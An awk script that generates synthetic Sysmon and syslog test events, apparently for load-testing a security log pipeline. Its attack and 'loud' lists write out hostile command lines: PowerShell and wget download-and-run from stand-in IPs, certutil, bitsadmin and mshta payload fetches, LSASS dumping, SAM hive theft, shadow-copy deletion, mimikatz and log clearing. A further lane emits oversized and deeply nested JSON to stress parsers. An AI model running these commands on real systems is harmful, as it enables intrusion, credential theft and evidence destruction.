# lanes.awk - the events of tools/lanes: variables lane, count, seed.

# The next number below n, from a generator of our own: every awk has another rand().
function draw(n) {
	seed = (seed * 16807) % 2147483647
	return int(seed / 2147483647 * n)
}

function pick(list, n) { return list[1 + draw(n)] }

function hex(digits,   out) {
	for (out = ""; digits > 0; digits--)
		out = out substr("0123456789ABCDEF", 1 + draw(16), 1)
	return out
}

function guid() { return hex(8) "-" hex(4) "-" hex(4) "-" hex(4) "-" hex(12) }

# Fills %u (user), %h (host), %n (number), %g (GUID), %x (hex), %w (word), %d (document) of a template.
function fill(text,   out, at, letter) {
	for (out = ""; (at = index(text, "%")) > 0; text = substr(text, at + 2)) {
		letter = substr(text, at + 1, 1)
		out = out substr(text, 1, at - 1)
		if (letter == "u") out = out pick(users, user_count)
		else if (letter == "h") out = out pick(hosts, host_count)
		else if (letter == "n") out = out draw(65536)
		else if (letter == "g") out = out guid()
		else if (letter == "x") out = out hex(8)
		else if (letter == "w") out = out pick(words, word_count)
		else if (letter == "d") out = out pick(documents, document_count)
		else out = out "%" letter
	}
	return out text
}

function escape(text) {
	gsub(/\\/, "\\\\\\\\", text)
	gsub(/"/, "\\\"", text)
	return text
}

function time(   ms) {
	clock += 1 + draw(40)
	ms = clock % 86400000
	return sprintf("2026-03-%02d %02d:%02d:%02d.%03d", 1 + int(clock / 86400000) % 28, int(ms / 3600000),
		int(ms / 60000) % 60, int(ms / 1000) % 60, ms % 1000)
}

function field(name, value) { return ",\"" name "\":\"" escape(value) "\"" }

function start_event(id,   now) {
	now = time()
	return "{\"EventID\":" id ",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"" \
		field("Hostname", pick(hosts, host_count) ".corp.example") field("@timestamp", substr(now, 1, 10) "T" substr(now, 12) "Z") \
		field("UtcTime", now) field("ProcessGuid", "{" guid() "}") ",\"ProcessId\":" 4 * draw(8000)
}

# A row of a table of programs: image | original file name | command line | parent.
function process_event(row,   part, user, parent) {
	split(row, part, "|")
	parent = fill(part[4])
	user = pick(users, user_count)
	return start_event(1) field("Image", fill(part[1])) field("OriginalFileName", part[2]) \
		field("CommandLine", fill(part[3])) field("CurrentDirectory", "C:\\Users\\" user "\\") \
		field("User", "CORP\\" user) field("LogonId", "0x" hex(5)) field("IntegrityLevel", draw(4) ? "Medium" : "High") \
		field("Hashes", "SHA256=" hex(64)) ",\"ParentProcessId\":" 4 * draw(8000) \
		field("ParentImage", parent) field("ParentCommandLine", draw(2) ? parent : "\"" parent "\" -Embedding") "}"
}

function sysmon_event(   kind, image, part) {
	kind = draw(100)
	split(pick(office, office_count), part, "|")
	image = fill(part[1])
	if (kind < 20)
		return process_event(pick(office, office_count))
	if (kind < 40)
		return start_event(11) field("Image", image) field("TargetFilename", fill(pick(files, file_count))) \
			field("CreationUtcTime", time()) field("User", fill("CORP\\%u")) "}"
	if (kind < 60)
		return start_event(13) field("EventType", "SetValue") field("Image", image) \
			field("TargetObject", fill(pick(keys, key_count))) field("Details", fill(pick(details, detail_count))) \
			field("User", fill("CORP\\%u")) "}"
	if (kind < 75)
		return start_event(7) field("Image", image) field("ImageLoaded", fill(pick(libraries, library_count))) \
			field("Description", "Windows component") field("Company", "Microsoft Corporation") \
			field("Hashes", "SHA256=" hex(64)) field("Signed", "true") field("Signature", "Microsoft Windows") \
			field("SignatureStatus", "Valid") "}"
	if (kind < 85)
		return start_event(3) field("Image", image) field("User", fill("CORP\\%u")) field("Protocol", "tcp") \
			field("Initiated", "true") field("SourceIp", "10.20." draw(256) "." draw(256)) \
			",\"SourcePort\":" 49152 + draw(16000) field("DestinationIp", 1 + draw(223) "." draw(256) "." draw(256) "." draw(256)) \
			",\"DestinationPort\":" (draw(3) ? 443 : 80) field("DestinationHostname", fill("%w-%n.%w.example")) "}"
	if (kind < 95)
		return start_event(22) field("Image", image) field("QueryName", fill("%w%n.%w.example")) \
			field("QueryStatus", "0") field("QueryResults", "::ffff:" 1 + draw(223) "." draw(256) "." draw(256) "." draw(256) ";") "}"
	return start_event(10) field("SourceImage", image) field("TargetImage", "C:\\Windows\\System32\\" pick(words, word_count) ".exe") \
		field("GrantedAccess", "0x1400") field("CallTrace", fill("C:\\Windows\\SYSTEM32\\ntdll.dll+%x|C:\\Windows\\System32\\KERNELBASE.dll+%x")) "}"
}

function text_event(table, rows) { return "{\"message\":\"" escape(fill(pick(table, rows))) "\"}" }

# Lists: one string, cut at newlines.
function load(text, list,   n, i) {
	n = split(text, lines, "\n")
	for (i = 1; i <= n; i++)
		list[i] = lines[i]
	return n
}

function load_names() {
	user_count = load("a.berg\nm.santos\nj.novak\nk.tanaka\np.dubois\nsvc_backup\nl.fischer\nr.oconnor\ns.rossi\nadm-lind", users)
	host_count = load("WS-0117\nWS-0342\nLAP-2210\nLAP-0093\nSRV-FILE01\nSRV-APP07\nDC02", hosts)
	word_count = load("orbit\nmaple\nquartz\nlantern\nharbor\nsignal\npebble\ncopper\nmeadow\nvector\nsaffron\ncinder\nbeacon\nwillow", words)
	document_count = load("Quarterly report.docx\nInvoice %n.pdf\nBudget 2026.xlsx\nMinutes.docx\nOrder list.csv\nPlan v3.pptx\nphoto.jpg", documents)
}

function load_office() {
	office_count = load( \
		"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|chrome.exe|\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=%n --launch-time-ticks=%n%n --field-trial-handle=%n,i,%n%n,262144 /prefetch:1|C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\n" \
		"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe|msedge.exe|\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%n|C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\n" \
		"C:\\Windows\\System32\\svchost.exe|svchost.exe|C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s wlidsvc|C:\\Windows\\System32\\services.exe\n" \
		"C:\\Windows\\System32\\svchost.exe|svchost.exe|C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p|C:\\Windows\\System32\\services.exe\n" \
		"C:\\Windows\\System32\\RuntimeBroker.exe|RuntimeBroker.exe|C:\\Windows\\System32\\RuntimeBroker.exe -Embedding|C:\\Windows\\System32\\svchost.exe\n" \
		"C:\\Windows\\System32\\backgroundTaskHost.exe|backgroundTaskHost.exe|\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX%x.mca|C:\\Windows\\System32\\svchost.exe\n" \
		"C:\\Windows\\System32\\dllhost.exe|dllhost.exe|C:\\Windows\\system32\\DllHost.exe /Processid:{%g}|C:\\Windows\\System32\\svchost.exe\n" \
		"C:\\Windows\\System32\\conhost.exe|CONHOST.EXE|\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE|WinWord.exe|\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\%u\\Documents\\%d\" /o \"\"|C:\\Windows\\explorer.exe\n" \
		"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE|Excel.exe|\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"\\\\srv-file01\\share\\%w\\%d\"|C:\\Windows\\explorer.exe\n" \
		"C:\\Users\\%u\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe|Teams.exe|\"C:\\Users\\%u\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=gpu-process --enable-features=WebRtcHideLocalIps --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAEgAAAAAAAAASAAAAAAAAAAYAAAAAgAAABAAAAAAAAAAGAAAAAAAAAAQAAAAAAAAAAAAAAAOAAAAEAAAAAAAAAABAAAADgAAAAgAAAAAAAAACAAAAAAAAAA= --mojo-platform-channel-handle=%n|C:\\Users\\%u\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\n" \
		"C:\\Windows\\System32\\SearchProtocolHost.exe|SearchProtocolHost.exe|\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%n_ Global\\UsGthrCtrlFltPipeMssGthrPipe%n 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\"|C:\\Windows\\System32\\SearchIndexer.exe\n" \
		"C:\\Windows\\System32\\taskhostw.exe|taskhostw.exe|taskhostw.exe Install $(Arg0)|C:\\Windows\\System32\\svchost.exe\n" \
		"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe|Wmiprvse.exe|C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding|C:\\Windows\\System32\\svchost.exe\n" \
		"C:\\Program Files\\Git\\cmd\\git.exe|git.exe|git.exe -c core.quotepath=false -c color.ui=false status --porcelain=v1 --untracked-files=all -- src/%w/%w.c|C:\\Program Files\\Microsoft VS Code\\Code.exe\n" \
		"C:\\Program Files\\Microsoft VS Code\\Code.exe|Code.exe|\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --ms-enable-electron-run-as-node \"c:\\Users\\%u\\.vscode\\extensions\\ms-python.vscode-pylance-2026.1.%n\\dist\\server.bundle.js\" --cancellationReceive=file:%x --node-ipc --clientProcessId=%n|C:\\Program Files\\Microsoft VS Code\\Code.exe\n" \
		"C:\\Windows\\System32\\msiexec.exe|msiexec.exe|C:\\Windows\\system32\\MsiExec.exe -Embedding %x%x%x%x E Global\\MSI0000|C:\\Windows\\System32\\services.exe\n" \
		"C:\\Program Files\\BackupCo\\Agent\\bkagent.exe|bkagent.exe|\"C:\\Program Files\\BackupCo\\Agent\\bkagent.exe\" --job %g --incremental --source \"D:\\Shares\\%w\" --log-level info --throttle %n|C:\\Program Files\\BackupCo\\Agent\\bkservice.exe\n" \
		"C:\\Program Files\\Java\\jdk-21\\bin\\java.exe|java.exe|\"C:\\Program Files\\Java\\jdk-21\\bin\\java.exe\" -Xms512m -Xmx4g -XX:+UseG1GC -Dfile.encoding=UTF-8 -Duser.language=en -classpath C:\\build\\%w\\lib\\app-%n.jar;C:\\build\\%w\\lib\\netty-all-4.1.%n.jar com.corp.%w.Main --port %n --profile production|C:\\Program Files\\Gradle\\bin\\gradle.exe\n" \
		"C:\\Windows\\explorer.exe|EXPLORER.EXE|C:\\Windows\\Explorer.EXE|C:\\Windows\\System32\\userinit.exe", office)
	admin_count = load( \
		"C:\\Windows\\System32\\cmd.exe|Cmd.Exe|C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Scripts\\%w.bat\" /quiet\"|C:\\Windows\\System32\\svchost.exe\n" \
		"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|PowerShell.EXE|powershell.exe -NoLogo -NoProfile -File \"C:\\Program Files\\Inventory\\collect-%w.ps1\" -Site %h -Full|C:\\Windows\\System32\\taskeng.exe\n" \
		"C:\\Windows\\System32\\ipconfig.exe|ipconfig.exe|ipconfig /all|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\net.exe|net.exe|net use H: \\\\srv-file01\\home\\%u /persistent:yes|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\schtasks.exe|schtasks.exe|schtasks /query /fo LIST /tn \"%w nightly\"|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\reg.exe|reg.exe|reg query HKLM\\SOFTWARE\\Corp\\%w /v Version|C:\\Windows\\System32\\cmd.exe", admin)
}

function load_attacks() {
	attack_count = load( \
		"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|PowerShell.EXE|powershell.exe -nop -w hidden -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/%w.ps1')\"|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\vssadmin.exe|VSSADMIN.EXE|vssadmin.exe delete shadows /all /quiet|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\certutil.exe|CertUtil.exe|certutil.exe -urlcache -split -f http://203.0.113.9/%w.exe C:\\Users\\Public\\%w.exe|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\rundll32.exe|RUNDLL32.EXE|rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %n C:\\Users\\Public\\%w.dmp full|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\whoami.exe|whoami.exe|whoami /all|C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\n" \
		"C:\\Windows\\System32\\reg.exe|reg.exe|reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv /y|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\schtasks.exe|schtasks.exe|schtasks /create /sc minute /mo 5 /tn \"%w\" /tr \"powershell -enc SQBFAFgA%x\" /ru SYSTEM /f|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\net1.exe|net1.exe|net1 localgroup administrators %u /add|C:\\Windows\\System32\\net.exe\n" \
		"C:\\Windows\\System32\\mshta.exe|MSHTA.EXE|mshta.exe http://192.0.2.55/%w.hta|C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\n" \
		"C:\\Windows\\System32\\wbem\\WMIC.exe|wmic.exe|wmic.exe process call create \"cmd.exe /c C:\\Users\\Public\\%w.exe\"|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\bitsadmin.exe|bitsadmin.exe|bitsadmin /transfer %w /download /priority high http://198.51.100.7/%w.exe C:\\Windows\\Temp\\%w.exe|C:\\Windows\\System32\\cmd.exe\n" \
		"C:\\Windows\\System32\\wevtutil.exe|wevtutil.exe|wevtutil cl Security|C:\\Windows\\System32\\cmd.exe", attacks)
}

function load_objects() {
	file_count = load( \
		"C:\\Users\\%u\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%x\n" \
		"C:\\Users\\%u\\Documents\\%w\\%d\nC:\\Windows\\Prefetch\\%w.EXE-%x.pf\nC:\\ProgramData\\BackupCo\\spool\\%g.blk\n" \
		"C:\\Users\\%u\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\%w.lnk\nC:\\Windows\\Temp\\%g.tmp\nD:\\Shares\\%w\\%d", files)
	key_count = load( \
		"HKU\\S-1-5-21-%n-%n-%n-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.%w\\MRUListEx\n" \
		"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-%n-%n\\SequenceNumber\n" \
		"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Components\\%x%x%x%x\n" \
		"HKU\\S-1-5-21-%n-%n-%n-1104\\Software\\Microsoft\\Office\\16.0\\Common\\Identity\\%w", keys)
	detail_count = load("DWORD (0x%x)\nQWORD (0x%x-0x%x)\nBinary Data\nC:\\Program Files\\%w\\%w.exe\n%w", details)
	library_count = load( \
		"C:\\Windows\\System32\\ntdll.dll\nC:\\Windows\\System32\\kernel32.dll\nC:\\Windows\\System32\\ucrtbase.dll\n" \
		"C:\\Windows\\System32\\combase.dll\nC:\\Windows\\System32\\%w.dll\nC:\\Program Files\\%w\\bin\\%w.dll", libraries)
}

function load_texts() {
	text_count = load( \
		"Mar 14 08:%n:07 web-3 nginx[%n]: 10.4.%n.12 - - \"GET /api/v2/%w/%n?page=3 HTTP/1.1\" 200 %n \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n" \
		"Mar 14 08:11:%n db-1 postgres[%n]: LOG:  duration: %n.12 ms  statement: SELECT id, name FROM %w WHERE %w_id = %n\n" \
		"Mar 14 08:12:01 web-3 systemd[1]: Started Session %n of User %u.\n" \
		"Mar 14 08:12:44 mail-2 postfix/smtpd[%n]: connect from %w.example[192.0.2.%n]\n" \
		"level=info ts=2026-03-14T08:13:55Z caller=%w.go:%n msg=\"compacted blocks\" tenant=%w duration=%nms\n" \
		"Mar 14 08:14:02 ci-5 dockerd[%n]: time=\"2026-03-14T08:14:02Z\" level=info msg=\"container %x%x removed\"", texts)
	loud_count = load( \
		"Mar 14 03:%n:07 web-3 sudo: %u : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c wget http://198.51.100.7/%w -O- | sh\n" \
		"Mar 14 03:12:01 web-3 kernel: [%n.12] %w[%n]: segfault at 0 ip %x sp %x error 4 in libc.so\n" \
		"Mar 14 03:12:40 web-3 sshd[%n]: error: buffer_get_ret: trying to get more bytes 4 than in buffer 0; Local disconnected: Corrupted MAC on input.\n" \
		"Mar 14 03:13:07 ws-7 collector: process mimikatz.exe argument sekurlsa::logonpasswords user %u\n" \
		"Mar 14 03:14:22 web-3 bash[%n]: %u: rm -rf /var/log/%w ; history -c ; chattr +i /tmp/.%w", loud)
}

function repeat(text, size,   out) {
	for (out = text; length(out) < size; )
		out = out out
	return substr(out, 1, size)
}

# Prints a process start of about size bytes.
function hostile_event(number, size,   kind, depth, i) {
	kind = number % 6
	printf "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"CommandLine\":"
	if (kind < 3)
		printf "\"%s\"", repeat(substr("aa\\\"\\\\", 1 + 2 * kind, 2), size)
	else if (kind == 3) {
		for (i = 0; i < 4096; i++)
			printf "%s\"%s\"", (i ? "," : "["), repeat("b", size / 4096 - 3)
		printf "]"
	} else if (kind == 4) {
		for (i = 0; i < size / 64; i++)
			printf "%s\"k%d.%d\":\"%s\"", (i ? "," : "{"), number, i, repeat("c", 46)
		printf "}"
	} else {
		depth = size < 1500 ? int(size / 6) : 250
		printf "%s1%s%s", repeat("{\"a\":", 5 * depth), repeat("}", depth), repeat(" ", size - 6 * depth)
	}
	print "}"
}

BEGIN {
	kib = seed
	seed = 1 + seed % 2147483646
	load_names()
	load_office()
	load_attacks()
	load_objects()
	load_texts()
	for (i = 0; i < count; i++) {
		if (lane == "process")
			print process_event(draw(25) ? pick(office, office_count) : draw(20) ? pick(admin, admin_count) : pick(attacks, attack_count))
		else if (lane == "quiet")
			print process_event(pick(office, office_count))
		else if (lane == "heavy")
			print process_event(pick(attacks, attack_count))
		else if (lane == "sysmon")
			print sysmon_event()
		else if (lane == "hostile")
			hostile_event(i, kib * 1024)
		else if (lane == "dns")
			print "{\"rsnl\":{\"kind\":\"dns_query\"},\"QueryName\":\"" fill("%w%n.%w-%n.example") "\"}"
		else if (lane == "text")
			print text_event(texts, text_count)
		else
			print text_event(loud, loud_count)
	}
}
